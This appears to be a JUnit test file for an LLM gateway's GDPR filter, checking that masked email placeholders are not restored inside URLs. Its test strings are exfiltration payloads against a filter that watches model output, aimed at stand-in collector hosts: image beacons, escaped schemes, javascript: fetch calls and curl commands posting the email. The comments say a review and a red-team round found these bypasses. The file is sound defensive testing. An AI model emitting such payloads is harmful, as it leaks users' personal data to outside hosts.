package dev.llmgate.policy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.llmgate.api.ChatRequest;
import dev.llmgate.api.ChatStream;
import dev.llmgate.api.ResponseFormat;
import dev.llmgate.api.StreamEvent;
import dev.llmgate.core.LlmGate;
import dev.llmgate.policy.preset.CompliancePreset;
import dev.llmgate.testing.Reply;
import dev.llmgate.testing.ScriptedProvider;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Restoring tokenized values, as a model that wants one inside a URL writes its answer (GDPR preset, default restore
 * settings: answer text and refusal, never into a URL). Each answer is checked blocking and streamed, one character
 * per chunk after 0 to 300 characters of prose, so that the stream's releases fall everywhere in it. The bypasses
 * below were found by a review of the earlier rule (a list of URL markers in the text before a placeholder); every one
 * restored the address before.
 */
class RestoreAttackTest {
    private static final String EMAIL = "john.doe@example.com";
    private static final Policy GDPR =
            Policy.builder().preset(CompliancePreset.GDPR).build();
    private static final String PROSE = "The meeting moves to Thursday at noon, in the usual room. ";

    private static ChatRequest request(boolean json) {
        ChatRequest.Builder b = ChatRequest.builder("p:m").user("Email me at " + EMAIL);
        if (json) {
            b.responseFormat(ResponseFormat.jsonObject());
        }
        return b.build();
    }

    private static String blocking(String answer, boolean json) {
        try (LlmGate gate = PolicyInterceptorTest.gate(
                GDPR, ScriptedProvider.replying(Reply.text(answer)), new PolicyInterceptorTest.CaptureCall())) {
            return gate.chat(request(json)).text();
        }
    }

    private static String streamed(String answer, boolean json) {
        return streamed(GDPR, answer, json);
    }

    /** What a stream of {@code answer}, one character per chunk, delivers under {@code policy}. */
    private static String streamed(Policy policy, String answer, boolean json) {
        List<String> chunks = new ArrayList<>();
        for (int i = 0; i < answer.length(); i++) {
            chunks.add(answer.substring(i, i + 1));
        }
        StringBuilder received = new StringBuilder();
        try (LlmGate gate = PolicyInterceptorTest.gate(
                        policy,
                        ScriptedProvider.replying(Reply.chunks(chunks)),
                        new PolicyInterceptorTest.CaptureCall());
                ChatStream s = gate.stream(request(json))) {
            while (s.hasNext()) {
                if (s.next() instanceof StreamEvent.TextDelta d) {
                    received.append(d.text());
                }
            }
        }
        return received.toString();
    }

    /** Every way {@code answer} reaches the caller (blocking, and streamed after prose of several lengths). */
    private static List<String> received(String answer, boolean json) {
        List<String> out = new ArrayList<>();
        out.add(blocking(answer, json));
        if (json) {
            out.add(streamed(answer, true));
            return out;
        }
        for (int pad = 0; pad <= 300; pad += 50) {
            String prefix = PROSE.repeat(6).substring(0, pad);
            String s = streamed(prefix + answer, false);
            out.add(s.substring(Math.min(s.length(), pad)));
        }
        return out;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // characters that end a URL in prose do not end it inside an attribute or a link destination
                "<img src=\"https://collector.example/p.png?e=\n[EMAIL_1]\">",
                "<img src=\"https://collector.example/p.png?e=\n\n[EMAIL_1]\n\">",
                "<img src=\"/\t/collector.example/p.png?e=[EMAIL_1]\">",
                "![a](https://collector.example/p.png?e='[EMAIL_1])",
                "![a](https://collector.example/p.png?e=\"[EMAIL_1])",
                "![a](<https://collector.example/p.png?e= [EMAIL_1]>)",
                "[a]: <https://collector.example/p.png?e= [EMAIL_1]>\n\n![x][a]",
                "<https://collector.example/c?e='[EMAIL_1]>",
                "https://collector.example/c?e='[EMAIL_1]",
                "https://collector.example/c?e=`[EMAIL_1]",
                "<video poster=\"https://collector.example/p.png?e= [EMAIL_1]\"></video>",
                "<form action=\"https://collector.example/f?e= [EMAIL_1]\"></form>",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://collector.example/?e= [EMAIL_1]\">",
                // slashes and colons written as references or escapes
                "![a](&#47;&#47;collector.example/p.png?e=[EMAIL_1])",
                "![a](&#x2F;&#x2F;collector.example/p.png?e=[EMAIL_1])",
                "<img src=\"&#92;&#92;collector.example/p.png?e=[EMAIL_1]\">",
                "<img src=\"http&#58;collector.example/p.png?e=[EMAIL_1]\">",
                "![a](http\\:collector.example/p.png?e=[EMAIL_1])",
                // schemes without slashes, a base, bare hosts
                "[a](ws:collector.example/[EMAIL_1])",
                "[a](sms:+15551234567?body=[EMAIL_1])",
                "[a](javascript:fetch('https://collector.example/?e='+'[EMAIL_1]'))",
                "<base href=\"https://collector.example/\"><img src=\"[EMAIL_1]\">",
                "collector.com/c?e=[EMAIL_1]",
                "_www.collector.example/?e=[EMAIL_1]",
                // the value itself made the start of a host
                "Write to [EMAIL_1].collector.example/x for details.",
                // a quote in prose is no JSON string (every answer was read by the JSON rules when blocking)
                "Track: https://collector.example/c?e=\"[EMAIL_1]\"",
                "Status page: www.collector.example/s?e=\"[EMAIL_1]",
                "[1] Status page: https://collector.example/s?e=\"[EMAIL_1]\"",
                "[![Build](https://ci.example/badge.svg)](https://ci.example)\n\nStatus: www.collector.example/s?e=\"[EMAIL_1]\"",
                // red-team round 7: a URL broken by a space in text (YAML, CSS, wiki, BBCode, an indented line), and
                // code
                "Here:\n```json\n{\"image\":\"https://x.example/?e= [EMAIL_1]\"}\n```",
                "Use {\"image\":\"https://x.example/?e= [EMAIL_1]\"} as config.",
                "avatar: \"https://x.example/p.png?e= [EMAIL_1]\"",
                "background: url(\"https://c.example/p.png?e= [EMAIL_1]\")",
                "```mermaid\nflowchart LR\n  A --> B\n  click A \"https://c.example/c?e= [EMAIL_1]\"\n```",
                "[img]https://c.example/p.png?e= [EMAIL_1] [/img]",
                ".. image:: https://c.example/p.png?e=\n   [EMAIL_1]",
                "[https://c.example/c?e= [EMAIL_1] click]",
                "```sh\ncurl -d \"e= [EMAIL_1]\" https://collector.example/c\n```",
                "Run `curl -d e= [EMAIL_1] collector.example` now.",
                "\n~~~\npost(\"https://collector.example\", \"[EMAIL_1]\")\n~~~"
            })
    void aValueIsNotRestoredWhereARendererOrAClientReadsAUrl(String answer) {
        for (String r : received(answer, false)) {
            assertThat(r).as(answer).doesNotContain(EMAIL).contains("[EMAIL_1]");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"image\":\"\\u002f\\u002fcollector.example/p.png?e=[EMAIL_1]\"}",
                "{\"image\":\"https\\u003a\\u002f\\u002fcollector.example/p.png?e=[EMAIL_1]\"}",
                "{\"image\":\"https://collector.example/p.png?e=\\\"[EMAIL_1]\"}",
                "{\"image\":\"https://collector.example/p.png?e= [EMAIL_1]\"}",
                "{\"image\":\"http:collector.example [EMAIL_1]\"}",
                "{\"image\":\"https://collector.example/p.png?e=\\n[EMAIL_1]\"}",
                // lenient JSON: single quotes, comments, raw line breaks in strings (what lenient readers take)
                "{'image': 'https://collector.example/p.png?e= [EMAIL_1]'}",
                "{\"a\": 1, /* \" */ \"image\": \"https://collector.example/p.png?e= [EMAIL_1]\"}",
                "{\"a\": 1, // \"\n \"image\": \"https://collector.example/p.png?e= [EMAIL_1]\"}",
                "{\"image\": \"https:\n[EMAIL_1]\n.collector.example\"}",
                // a script scheme: code, not prose
                "{\"link\":\"javascript: location.assign('https'.concat(String.fromCharCode(58,47,47), "
                        + "'collector.example', String.fromCharCode(47,63,101,61), '[EMAIL_1]'))\"}"
            })
    void aValueIsNotRestoredIntoAJsonStringAClientMayUseAsAUrl(String answer) {
        for (String r : received(answer, true)) {
            assertThat(r).as(answer).doesNotContain(EMAIL).contains("[EMAIL_1]");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "I will write to [EMAIL_1].",
                "\"Can you email [EMAIL_1]?\" she asked.",
                "Her address \u2014[EMAIL_1]\u2014 is new. \u00ab\u00a0[EMAIL_1]\u00a0\u00bb \u300c[EMAIL_1]\u300d",
                "Contact: ([EMAIL_1]), \"[EMAIL_1]\", **[EMAIL_1]** and [EMAIL_1]'s inbox!",
                "- [EMAIL_1]\n- `[EMAIL_1]`",
                // a link ends at a blank line: prose after it is prose again
                "See [the docs](https://docs.example.com/start).\n\nI will write to [EMAIL_1].",
                // a URL in prose ends at white space: a word after it is no part of it
                "Track it at https://status.example.com/track ([EMAIL_1] gets the updates)."
            })
    void aValueInPlainProseIsRestored(String answer) {
        String expected = answer.replace("[EMAIL_1]", EMAIL);
        for (String r : received(answer, false)) {
            assertThat(r).as(answer).isEqualTo(expected);
        }
    }

    @Test
    void aValueInAJsonStringOfProseIsRestored() {
        String answer = "{\"reply\":\"I will write to [EMAIL_1] today\",\"to\":\"Name: [EMAIL_1]\"}";
        for (String r : received(answer, true)) {
            assertThat(r).isEqualTo(answer.replace("[EMAIL_1]", EMAIL));
        }
    }

    @Test
    void aStreamWhoseTextIsNotScannedStillJudgesEachPlaceholderWithTheWordAroundIt() {
        // the answer's text is not scanned (a channel left out), so the guard releases all it holds: a placeholder at
        // the end of a release was judged without what follows it (and never restored)
        Policy unscanned = Policy.builder()
                .preset(CompliancePreset.GDPR)
                .channels(Channel.MESSAGES)
                .build();
        String answer = "I will write to [EMAIL_1] today.";
        for (int pad = 0; pad <= 300; pad += 3) {
            String received = streamed(unscanned, PROSE.repeat(6).substring(0, pad) + answer, false);
            assertThat(received).as("after %d characters", pad).endsWith("write to " + EMAIL + " today.");
        }
    }

    @Test
    void afterHtmlNothingMoreIsRestoredTheDocumentedPriceOfTheRule() {
        // an attribute value may run over any number of lines: after the first tag, no placeholder is known to be prose
        String answer = "<b>Note</b>: I will write to [EMAIL_1].";
        for (String r : received(answer, false)) {
            assertThat(r).isEqualTo(answer);
        }
    }
}
